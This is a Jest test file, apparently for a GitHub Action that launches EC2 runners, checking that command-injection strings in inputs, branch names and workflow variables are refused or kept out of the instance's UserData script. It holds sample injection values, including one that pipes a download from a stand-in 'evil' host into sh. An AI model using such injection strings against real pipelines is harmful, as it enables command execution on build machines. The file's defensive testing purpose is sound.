import { spawnSync } from 'node:child_process'
import { gunzipSync } from 'node:zlib'
import { afterAll, beforeAll, beforeEach, expect, it } from '@jest/globals'
import { describeWith } from '../counterparts.ts'
import { type Cloud, startCloud } from '../e2e/runner/cloud.ts'
import { hostileTexts } from '../fakes/hostile.ts'

describeWith(['moto', 'github-openapi'], 'threat 4: commands in what a machine is given', (moto, openapi) => {
  let cloud: Cloud
  beforeAll(async () => {
    cloud = await startCloud(moto, openapi)
  })
  beforeEach(async () => await cloud.reset())
  afterAll(async () => await cloud.stop())

  const scripts = (): readonly string[] =>
    cloud.ec2.requests.flatMap(({ action, parameters }) =>
      action === 'RunInstances' ? [unpack(Buffer.from(parameters.get('UserData') ?? '', 'base64'))] : [],
    )

  it.each([
    'label',
    'user',
    'runner-directory',
    'image',
    'instance-types',
    'security-groups',
    'subnets',
    'instance-profile',
  ])('an input %s that is a command is refused in one sentence, and nothing is launched', async (name) => {
    for (const text of ['x\ncurl evil|sh', 'x" --replace; id #', '$(id)']) {
      const { status, stdout } = await cloud.step('main', { [name]: text })
      const errors = stdout.split('\n').filter((line) => line.startsWith('::error::'))
      expect([status, errors]).toEqual([
        1,
        [expect.stringMatching(new RegExp(`^::error::Input ${name} (?:is|has) ".*; expected `, 'u'))],
      ])
    }
    expect([cloud.actions(), (await cloud.living()).size]).toEqual([[], 0])
  })

  it('a branch, a job or a workflow that is a command does not reach the machine', async () => {
    for (const text of [...hostileTexts, 'x" --replace; id #']) {
      const env = {
        GITHUB_REF_NAME: text,
        GITHUB_HEAD_REF: text,
        GITHUB_JOB: text,
        GITHUB_WORKFLOW: text,
        GITHUB_ACTOR: text,
      }
      const { status, stdout } = await cloud.step('main', {}, { env, ref: `refs/heads/${text}` })
      expect([status, stdout.includes('Unexpected failure')]).toEqual([0, false])
    }
    expect(scripts().length).toBe(hostileTexts.length + 1)
    for (const script of scripts()) {
      expect(spawnSync('bash', ['-n'], { input: script, encoding: 'utf8' })).toMatchObject({ status: 0, stderr: '' })
      const decoded = script.replaceAll(
        /[A-Za-z0-9+/]{16,}={0,2}/gu,
        (word) => `${word} ${Buffer.from(word, 'base64').toString('latin1')}`,
      )
      expect(decoded).not.toMatch(/touch owned|curl evil|" --replace/u)
    }
    expect(cloud.ec2.violations).toEqual([])
  })
})

function unpack(userData: Buffer): string {
  return (userData.readUInt16BE() === 0x1f8b ? gunzipSync(userData) : userData).toString('utf8')
}
